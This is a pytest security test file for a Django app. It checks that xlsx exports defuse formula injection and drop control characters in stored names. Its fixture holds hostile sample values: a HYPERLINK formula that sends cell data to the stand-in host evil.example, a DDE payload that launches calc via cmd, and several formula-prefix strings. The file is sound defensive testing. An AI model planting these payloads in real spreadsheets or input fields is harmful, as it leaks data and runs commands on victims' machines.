"""Every .xlsx export, fetched after hostile text has been stored in the names it shows (formula prefixes, control
characters): each answers a workbook, no cell of which is a live formula or starts with a formula prefix (issue 13:
a project named =HYPERLINK(…) leaked data from the auditor's export; a name with \\x0b made every export a 500)."""

import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audit.services import audit_log
from core.xlsx import FORMULA_PREFIXES, cell_text, cell_value
from projects.models import Investor, Project, RequiredEvent
from targets.models import Leader, Sector, Unit
from tests.security.url_rules import RULES
from tests.security.world import OTHER_UNIT, OWN_UNIT, build_url

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PREFERRED = ("auditor", "office", "leader", "filer", "audit_admin", "admin")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C5,"点击查看项目")'


def xlsx_urls(world):
    """(name, url, role) of every export that answers a workbook: the URLs named …xlsx, the breakdown table's
    export, the ledger template and the audit log's xlsx."""
    for name, rule in RULES.items():
        if not (name.endswith("xlsx") or name in {"targets:export", "projects:ledger_template", "audit:export"}):
            continue
        role = next(r for r in PREFERRED if r in rule.get)
        if name == "audit:export":
            url = reverse(name, kwargs={"fmt": "xlsx"})
        else:
            url = build_url(name, rule.kw, world["scopes"]["own"])
        yield name, url, role


@pytest.fixture
def hostile_names(db, world):
    """Names as they may already be stored (written before input was checked, or by the admin)."""
    Unit.objects.filter(name=OWN_UNIT).update(name=HYPERLINK)
    Unit.objects.filter(name=OTHER_UNIT).update(name="县交\x0b通局")
    Leader.objects.filter(name="王军").update(name="\t=1+1王军")
    sector = Sector.objects.filter(year__year=2023).order_by("position").first()
    Sector.objects.filter(pk=sector.pk).update(name="\r=1+1" + sector.name)
    projects = Project.objects.order_by("pk")
    Project.objects.filter(pk=projects[0].pk).update(name="+cmd|' /C calc'!A0 项目")
    Project.objects.filter(pk=projects[1].pk).update(name="-2+3\x0b项目")
    third = (
        Unit.objects.exclude(name__in=[HYPERLINK, "县交\x0b通局"]).filter(target_rows__isnull=False).distinct().first()
    )
    Unit.objects.filter(pk=third.pk).update(name="-2+3\x0b单位")
    for i, pk in enumerate(Investor.objects.order_by("pk").values_list("pk", flat=True)):
        Investor.objects.filter(pk=pk).update(name=f"@SUM({i}+1) 投资公司")
    RequiredEvent.objects.update(title="=1+1\x01培训")
    audit_log(action="test.formula", username='=HYPERLINK("x")\x0b')


def cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_every_xlsx_export_writes_stored_text_as_text_and_never_fails(client, world, hostile_names, monkeypatch):
    monkeypatch.setattr("reports.pdf.html_to_pdf", lambda html, identifier: b"%PDF-1.7 stub")
    urls = list(xlsx_urls(world))
    assert (
        len(urls) >= 18
    )  # every .xlsx route found (the sample bulletin's retired in issue 11; the key-enterprise list came with issue 14)
    problems, texts = [], set()
    for name, url, role in urls:
        client.force_login(world["users"][role])
        for query in ("", "?as_of=%00", "?as_of=%3D1%2B1"):
            response = client.get(url + query)
            if response.status_code != 200 or not response["Content-Type"].startswith(XLSX):
                problems.append(f"{name}{query}: {response.status_code} {response['Content-Type']}")
                continue
            for cell in cells(response.content):
                value = cell.value
                if cell.data_type == "f":
                    problems.append(f"{name}{query} {cell.coordinate}: 公式 {value!r}")
                elif isinstance(value, str):
                    texts.add(value)
                    if value.startswith(FORMULA_PREFIXES):
                        problems.append(f"{name}{query} {cell.coordinate}: {value!r}")
    assert not problems, "\n".join(problems)
    shown = "\n".join(texts)
    for defused in ("'" + HYPERLINK, "'+cmd|' /C calc'!A0 项目", "县交通局", "'-2+3单位", "'\t=1+1王军"):
        assert defused in shown, defused  # the stored names did reach the exports


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 023", "'+86 023"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("县交\x0b通局", "县交通局"),
        ("\x00=1", "'=1"),
        ("第一行\n第二行", "第一行\n第二行"),
        ("—", "—"),
        ("−4.0", "−4.0"),
        ("'=1", "'=1"),
    ],
)
def test_the_one_writer_defuses_formulas_and_drops_what_a_workbook_cannot_hold(text, written):
    assert cell_text(text) == written


def test_numbers_and_dates_are_written_as_they_are():
    for value in (Decimal("-1.5"), -3, 0.5, dt.date(2023, 1, 1), True, None):
        assert cell_value(value) == value


def test_defusing_is_idempotent():
    for text in ("=1", "'=1", "\x0b-1", "普通文本"):
        assert cell_text(cell_text(text)) == cell_text(text)
    assert all(not re.match(r"[=+\-@\t\r]", cell_text(t)) for t in ("=1", "+1", "-1", "@1", "\t1", "\r1"))
